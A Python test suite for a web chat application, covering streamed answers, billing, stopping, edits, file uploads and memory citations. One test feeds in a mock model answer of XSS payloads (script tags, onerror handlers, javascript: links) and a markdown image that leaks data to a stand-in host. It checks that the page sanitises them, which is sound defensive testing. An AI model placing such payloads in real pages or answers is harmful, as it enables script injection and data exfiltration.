"""The chat page: streams, costs, stop, versions, files, and hostile responses."""

from __future__ import annotations

import asyncio
import json
import re
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from sixfold.app import catalog as app_catalog
from sixfold.core.accounts import accounts, credentials
from sixfold.core.accounts.authentication import login_sessions
from sixfold.core.accounts.operation import customers
from sixfold.core.accounts.organizations import members
from sixfold.core.concurrency.memory_limit import MemoryLease, MemoryLimit
from sixfold.core.database import Transaction
from sixfold.ui.chat import pages, thread_view
from sixfold.web.sessions import COOKIE
from tests.api.app_fixture import bearer
from tests.api.gateway import Gateway, running_gateway
from tests.api.test_memory_pages import put
from tests.api.test_pages import signed_in
from tests.harness import image_files
from tests.harness.waiting import wait_until

SCRIPT = {"Accept": "application/json"}


def _png() -> bytes:
    return image_files.encode(Image.new("RGB", (8, 8), (200, 30, 30)))


class ChatUser:
    """A signed-in user of the chat page."""

    def __init__(self, gateway: Gateway, csrf: str) -> None:
        self.gateway, self.client, self.csrf = gateway, gateway.app.client, csrf

    @classmethod
    async def of(cls, gateway: Gateway) -> ChatUser:
        return cls(gateway, await signed_in(gateway.app))

    async def ask(self, text: str, path: str = "/chat", *, files: Any = None, **fields: str) -> Any:
        """Send a message as the script does."""
        form = {"csrf": self.csrf, "text": text, "model": "acme/small", **fields}
        sent = files or [("file", ("", b"", "application/octet-stream"))]
        return await self.client.post(path, data=form, files=sent, headers=SCRIPT)

    async def ask_path(self, text: str, path: str = "/chat", **more: Any) -> str:
        """Send a message, wait for its answer and return the path of the chat."""
        response = await self.ask(text, path, **more)
        assert response.status_code == 202, response.text
        where = response.json()["location"]
        assert (await self.events(where))[-1][0] == "end"
        return where

    async def act(self, path: str, headers: Any = None, **fields: str) -> Any:
        return await self.client.post(path, data={"csrf": self.csrf, **fields}, headers=headers or {})

    async def events(self, path: str) -> list[tuple[str, dict[str, Any]]]:
        """Return the complete stream of a chat."""
        response = await self.client.get(f"{path}/events")
        assert response.status_code == 200, response.text
        result = re.findall(r"event: (\w+)\ndata: (.*)\n\n", response.text)
        return [(name, json.loads(data)) for name, data in result]

    async def page(self, path: str) -> str:
        response = await self.client.get(path)
        assert response.status_code == 200
        return response.text

    def ids(self, page: str, role: str) -> list[str]:
        return re.findall(rf'class="message {role}" id="m-(\w+)"', page)


async def test_answer_is_streamed_stored_and_charged(any_database_gateway: Gateway) -> None:
    gateway = any_database_gateway
    person = await ChatUser.of(gateway)
    sent = await person.ask("say 3 words")
    where = sent.json()["location"]
    events = await person.events(where)
    assert [name for name, _ in events if name in ("begin", "end")] == ["begin", "end"]
    assert "<p>word word word</p>" in events[-1][1]["html"]
    # 10 tokens in, 4 of them cached, and 3 out.
    assert events[-1][1]["total"] == "0.0038"
    assert (await gateway.settled())[0]["cost_usd"] == "0.0038"
    await person.ask_path("say 2 words", where)
    page = await person.page(where)
    assert page.count('class="message answer"') == page.count('class="message question"') == 2
    assert "3 × 1000.00/M = 0.0038 USD</span>" in page
    assert gateway.acme.requests[-1].document["messages"][1] == {
        "role": "assistant",
        "content": "word word word",
    }
    conversation_id = where.rpartition("/")[2]
    items = await gateway.openai().conversations.items.list(conversation_id, order="asc")
    assert [getattr(item, "role", "") for item in items.data] == ["user", "assistant"] * 2
    rows = await gateway.app.exported("export_conversation_items")
    assert json.loads(rows[1]["detail"])["model"] == "acme/small"
    assert await gateway.app.faults() == ()


async def test_form_without_script_waits_for_the_answer(gateway: Gateway) -> None:
    person = await ChatUser.of(gateway)
    form = {"csrf": person.csrf, "text": "say 3 words", "model": "acme/small"}
    response = await person.client.post("/chat", data=form, files=[("file", ("", b"", "text/plain"))])
    assert response.status_code == 303
    page = await person.page(response.headers["location"].partition("#")[0])
    assert "<p>word word word</p>" in page
    empty = {**form, "text": " "}
    response = await person.client.post("/chat", data=empty, files=[("file", ("", b"", "text/plain"))])
    assert (response.status_code, "Write a message first" in response.text) == (400, True)


async def test_form_without_script_frees_memory_for_its_answer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    held: list[int] = []
    resize = MemoryLimit.resize

    async def record(limit: MemoryLimit, lease: MemoryLease, size: int) -> None:
        held.append(limit.total)
        await resize(limit, lease, size)

    price = {"input_per_million_usd": "0.01", "output_per_million_usd": "0.01"}
    async with running_gateway(tmp_path, prices={"acme/small": price}) as gateway:
        person = await ChatUser.of(gateway)
        where = await person.ask_path("say 3 words " + "x" * 90_000)
        form = {"csrf": person.csrf, "text": "say 2 words", "model": "acme/small"}
        monkeypatch.setattr(MemoryLimit, "resize", record)
        response = await person.client.post(where, data=form, files=[("file", ("", b"", "text/plain"))])
        assert response.status_code == 303
        assert "<p>word word</p>" in await person.page(where)
    # The request reserves memory first, and then the answer.
    assert held == [0, 0]


async def test_stop_ends_the_call_and_charges_what_was_delivered(any_database_gateway: Gateway) -> None:
    gateway = any_database_gateway
    person = await ChatUser.of(gateway)
    gateway.acme.mode = "trickle"
    where = (await person.ask("say 20 words")).json()["location"]
    reading = asyncio.create_task(person.events(where))
    async with asyncio.timeout(120):
        while "<p>word" not in await person.page(where):  # noqa: ASYNC110 - the page has no event
            await asyncio.sleep(0.01)
        assert (await person.act(f"{where}/stop", SCRIPT)).status_code == 202
        events = await reading
        await gateway.acme.disconnect_event.wait()
    assert "Stopped." in events[-1][1]["html"]
    call = (await gateway.settled())[0]
    words = events[-1][1]["html"].count("word") - call["model"].count("word")
    assert (call["status"], 0 < words < 20) == ("left", True)
    assert f"{events[-1][1]['total']}"[:4] == call["cost_usd"][:4]
    assert await gateway.pending() == 0
    assert await gateway.app.faults() == ()


async def test_answer_of_a_removed_member_is_stopped(gateway: Gateway) -> None:
    app, write = gateway.app, gateway.app.database.write
    eve = await write(accounts.create("eve@example.com"))
    member = await write(members.add(app.account.id, eve.id, "member", "operator"))
    await signed_in(app, eve)
    token = await write(login_sessions.act_for(app.client.cookies[COOKIE], app.account.id))
    app.client.cookies.clear()
    app.client.cookies.set(COOKIE, token)
    page = (await app.client.get("/chat")).text
    person = ChatUser(gateway, re.findall(r'name="csrf" value="([^"]+)"', page)[0])
    gateway.acme.mode = "trickle"
    assert (await person.ask("say 20 words")).status_code == 202
    async with asyncio.timeout(120):
        await wait_until(lambda: gateway.acme.requests)
        await write(members.remove(app.account.id, member.id))
        await gateway.acme.disconnect_event.wait()
    call = (await gateway.settled())[0]
    assert (call["status"], await gateway.pending()) == ("left", 0)
    assert await app.faults() == ()


@pytest.mark.parametrize("end", ["session", "password", "suspension"])
async def test_answer_stops_when_its_login_session_ends(any_database_gateway: Gateway, end: str) -> None:
    gateway, app = any_database_gateway, any_database_gateway.app
    person = await ChatUser.of(gateway)
    gateway.acme.mode = "trickle"
    assert (await person.ask("say 20 words")).status_code == 202
    # A session that switches to another account goes on.
    token = await app.database.write(login_sessions.act_for(app.client.cookies[COOKIE], app.account.id))
    ends: dict[str, Transaction[Any]] = {
        "session": login_sessions.end(token),
        "password": credentials.change_password(app.account.id, "hash"),
        "suspension": customers.suspend(app.operator.owner, app.account.id, suspended=True),
    }
    async with asyncio.timeout(120):
        await wait_until(lambda: gateway.acme.requests)
        assert await app.server.connections.check() == 0
        await app.database.write(ends[end])
        await gateway.acme.disconnect_event.wait()
    if end == "suspension":
        await app.database.write(customers.suspend(app.operator.owner, app.account.id, suspended=False))
    call = (await gateway.settled())[0]
    assert (call["status"], await gateway.pending()) == ("left", 0)
    assert await app.faults() == ()


async def test_failed_answer_is_free_and_retried_in_place(gateway: Gateway) -> None:
    person = await ChatUser.of(gateway)
    gateway.acme.modes = ["fail"]
    where = await person.ask_path("say 3 words")
    page = await person.page(where)
    assert "Try again" in page
    assert (await gateway.settled())[0]["cost_usd"] == "0.00"
    item = person.ids(page, "question")[0]
    second_response = await person.act(f"{where}/again", SCRIPT, item=item, model="acme/small")
    assert second_response.json()["location"] == where
    await person.events(where)
    page = await person.page(where)
    assert ("Try again" in page, person.ids(page, "question")) == (False, [item])


async def test_edit_creates_a_version_and_branch_creates_a_chat(any_database_gateway: Gateway) -> None:
    person = await ChatUser.of(any_database_gateway)
    first = await person.ask_path("say 1 words")
    await person.ask_path("say 2 words", first)
    page = await person.page(first)
    question, answer = person.ids(page, "question")[1], person.ids(page, "answer")[0]
    assert "say 2 words</textarea>" in await person.page(f"{first}?edit={question}")
    second = await person.ask_path("say 4 words", first, edited=question)
    third = (await person.act(f"{second}/again", SCRIPT, item=question, model="acme/small")).status_code
    assert third == 404
    edited = person.ids(await person.page(second), "question")[1]
    second_response = await person.act(f"{second}/again", SCRIPT, item=edited, model="acme/small")
    await person.events(second_response.json()["location"])
    for path, number in ((first, 1), (second, 2), (second_response.json()["location"], 3)):
        page = await person.page(path)
        assert f"<span>{number} of 3</span>" in page
        assert page.count('class="message question"') == 2
    branch = await person.act(f"{second}/branch", item=answer)
    page = await person.page(branch.headers["location"])
    assert ("(branch)" in page, page.count('class="message answer"')) == (True, 1)
    assert page.count('<li><a href="/chat/') == 2
    await person.act(f"{second}/rename", title="Words of mine")
    assert "<h1>Words of mine</h1>" in await person.page(first)
    await person.act(f"{second}/delete")
    assert [(await person.client.get(path)).status_code for path in (first, second)] == [404, 404]
    assert (await person.client.get(branch.headers["location"])).status_code == 200


async def test_list_of_chats_is_paged_with_versions(
    any_database_gateway: Gateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pages, "CHATS", 2)
    person = await ChatUser.of(any_database_gateway)
    oldest = await person.ask_path("say 1 words")
    second = await person.ask_path("say 2 words")
    third = await person.ask_path("say 3 words")
    question = person.ids(await person.page(third), "question")[0]
    edits = [await person.ask_path("say 4 words", third, edited=question) for _ in range(2)]
    pattern = re.compile(r'<li><a href="([^"]+)"')
    *result, older = pattern.findall(await person.page("/chat"))
    assert result == [edits[1], second]
    assert pattern.findall(await person.page(older)) == [oldest]


async def test_edit_of_an_earlier_message_and_of_files(
    gateway: Gateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(thread_view, "MESSAGES", 2)
    person = await ChatUser.of(gateway)
    where = await person.ask_path("say 1 words")
    earliest = person.ids(await person.page(where), "question")[0]
    await person.ask_path("", where, files=[("file", ("red.png", _png(), "image/png"))])
    page = await person.page(where)
    assert earliest not in page
    assert "say 1 words</textarea>" in await person.page(f"{where}?edit={earliest}")
    files_only, answer = person.ids(page, "question")[0], person.ids(page, "answer")[0]
    assert f'name="edited" value="{files_only}"' in await person.page(f"{where}?edit={files_only}")
    assert 'name="edited"' not in await person.page(f"{where}?edit={answer}")


async def test_hostile_answer_is_only_text(gateway: Gateway) -> None:
    person = await ChatUser.of(gateway)
    gateway.acme.answer = (
        "<script>alert(1)</script> <img src=x onerror=alert(1)> [a](javascript:alert(1)) "
        "![steal](https://evil.example/?q=secret) $\\href{javascript:alert(1)}{x}$ [ok](https://ok.example)"
    )
    where = await person.ask_path("hello")
    page = await person.page(where)
    content = page.partition('<div class="content">')[2].partition("</div>")[0]
    assert "<script" not in content
    assert "<img" not in content
    assert not re.search(r'(?:href|src)="(?!https://(?:ok|evil)\.example)', content)
    assert 'href="https://ok.example" rel="noopener noreferrer nofollow ugc"' in content
    assert 'class="external-image" href="https://evil.example' in content


async def test_files_reach_the_model_and_their_account_only(gateway: Gateway) -> None:
    person = await ChatUser.of(gateway)
    files = [("file", ("dot.png", _png(), "image/png")), ("file", ("notes.csv", b"a,b\n1,2\n", "text/csv"))]
    where = await person.ask_path("What is this?", files=files)
    content = gateway.acme.requests[-1].document["messages"][0]["content"]
    assert content[0]["image_url"]["url"].startswith("data:image/png;base64,")
    assert content[1]["text"] == '<document name="notes.csv">\na,b\n1,2\n</document>'
    result = re.findall(r"/chat-files/\w+", await person.page(where))
    image = await person.client.get(result[0])
    assert (image.headers["content-type"], image.content) == ("image/png", _png())
    assert image.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert image.headers["cross-origin-resource-policy"] == "same-origin"
    # A browser does not show its copy after the session has ended.
    assert image.headers["cache-control"] == "private, no-cache"
    known = {"If-None-Match": image.headers["etag"]}
    assert (await person.client.get(result[0], headers=known)).status_code == 304
    refused_response = await person.ask("x", files=[("file", ("a.exe", b"MZ\0\0", "image/png"))])
    assert (refused_response.status_code, "a.exe cannot be attached" in refused_response.json()["error"]) == (
        400,
        True,
    )
    other_client = gateway.app.visitor()
    assert (await other_client.get(result[0])).status_code == 401
    assert (await other_client.get(f"{where}/events")).status_code == 401
    response = await gateway.app.client.get("/v1/files", headers=bearer(gateway.app.other))
    assert response.json()["data"] == []


async def test_stopping_server_stores_the_partial_answer(gateway: Gateway) -> None:
    person = await ChatUser.of(gateway)
    gateway.acme.mode = "trickle"
    where = (await person.ask("say 20 words")).json()["location"]
    async with asyncio.timeout(120):
        while "<p>word" not in await person.page(where):  # noqa: ASYNC110 - the page has no event
            await asyncio.sleep(0.01)
    response = await person.ask("And now?", where)
    assert "A response in this conversation is still being generated" in response.json()["error"]
    await gateway.app.server.gateway_runtime.response_tasks.close()
    page = await person.page(where)
    assert ("word" in page, "Stopped." in page) == (True, True)
    assert (await gateway.settled())[0]["status"] == "left"


async def test_page_without_a_model_shows_the_remedy(tmp_path: Path) -> None:
    async with running_gateway(tmp_path, upstreams={}, aliases={}, prices={}) as gateway:
        person = await ChatUser.of(gateway)
        page = await person.page("/chat")
        assert "No chat model is connected yet" in page
        assert '<form id="composer"' not in page
        assert "/admin/" not in page
        csrf = await signed_in(gateway.app, gateway.app.operator)
        page = await person.page("/chat")
        action = re.search(r'action="(/admin/engines/chat/[^"]+)/install"', page)
        assert action is not None
        form = {"csrf": csrf, "back": "/chat"}
        installing = await gateway.app.client.post(f"{action[1]}/install", data=form)
        assert installing.headers["location"] == "/chat"
        assert f'action="{action[1]}/stop"' in await person.page("/chat")
        stopped = await gateway.app.client.post(f"{action[1]}/stop", data=form)
        assert stopped.headers["location"] == "/chat"
        assert {f"/admin/{name}" for name in ("engines", "models", "providers")} <= set(
            re.findall(r'href="([^"]+)"', page)
        )


async def test_memory_is_shown_to_the_model_and_cited(gateway: Gateway) -> None:
    person = await ChatUser.of(gateway)
    await put(gateway.app, "ships/zeppelin", "# Zeppelin\n\nThe zeppelin lifts with hydrogen.\n")
    gateway.acme.answer = "With hydrogen [1], not helium [7]. `a[1]`"
    where = await person.ask_path("@memory what lifts the zeppelin?")
    system = gateway.acme.requests[-1].document["messages"][0]
    assert system["role"] == "system"
    # A page cannot forge the code of the marks, which is new in each request.
    code = re.search(r"<<page ([0-9a-f]{12}) \[1\] Zeppelin \(ships/zeppelin\)>>\n", system["content"])
    assert code is not None
    assert system["content"].endswith(f"<<end of memory {code[1]}>>")
    assert "lifts with hydrogen" in system["content"]
    page = await person.page(where)
    assert 'hydrogen <a class="cite" href="/memory/ships/zeppelin">[1]</a>, not helium [7].' in page
    assert "<code>a[1]</code>" in page
    assert '<li><a href="/memory/ships/zeppelin">Zeppelin</a></li>' in page


async def test_answer_without_credit_states_the_next_step(gateway: Gateway) -> None:
    await gateway.app.database.write(accounts.credit("ada@example.com", -4_999_999))
    person = await ChatUser.of(gateway)
    page = await person.page(await person.ask_path("say 3 words"))
    assert "Your balance does not cover the most that this answer can cost" in page
    assert 'href="/account/billing' in page
    assert gateway.acme.requests == []


async def test_draw_answers_with_an_image_and_its_receipt(tmp_path: Path) -> None:
    async with running_gateway(tmp_path, models=app_catalog.models_document()) as gateway:
        person = await ChatUser.of(gateway)
        where = await person.ask_path("draw a red fox")
        page = await person.page(where)
        result = re.search(r'<img src="(/media/[^"]+)" alt="a red fox" width="1024" height="1024"', page)
        assert result is not None
        # The button would speak the text of an image, at a price.
        assert "data-speak" not in page
        assert (await person.client.get(result[1])).headers["content-type"] == "image/png"
        assert f"<span>{gateway.app.server.catalog['ra2'].title}</span>" in page
        run = re.search(r'href="(/predictions/pred_\w+)"', page)
        assert run is not None
        assert (await person.client.get(run[1])).status_code == 200
        assert gateway.acme.requests == []
        assert await gateway.app.faults() == ()


async def test_files_are_limited_in_number_and_size(gateway: Gateway) -> None:
    person = await ChatUser.of(gateway)
    eleven = [("file", (f"{number}.txt", b"a", "text/plain")) for number in range(11)]
    many_files = await person.ask("hello", files=eleven)
    assert (many_files.status_code, many_files.json()["error"]) == (
        400,
        "A message may have at most 10 files (got 11)",
    )
    large = b"\x89PNG\r\n\x1a\n" + bytes(9 * 2**20)
    response = await person.ask("hello", files=[("file", ("large.png", large, "image/png"))])
    assert (response.status_code, response.json()["error"]) == (
        413,
        "large.png must be at most 8,388,608 bytes (got 9,437,192)",
    )
    expired = await person.client.post(
        "/chat", data={"csrf": "old", "text": "hello"}, files=eleven[:1], headers=SCRIPT
    )
    assert (expired.status_code, expired.json()["code"]) == (403, "forbidden")
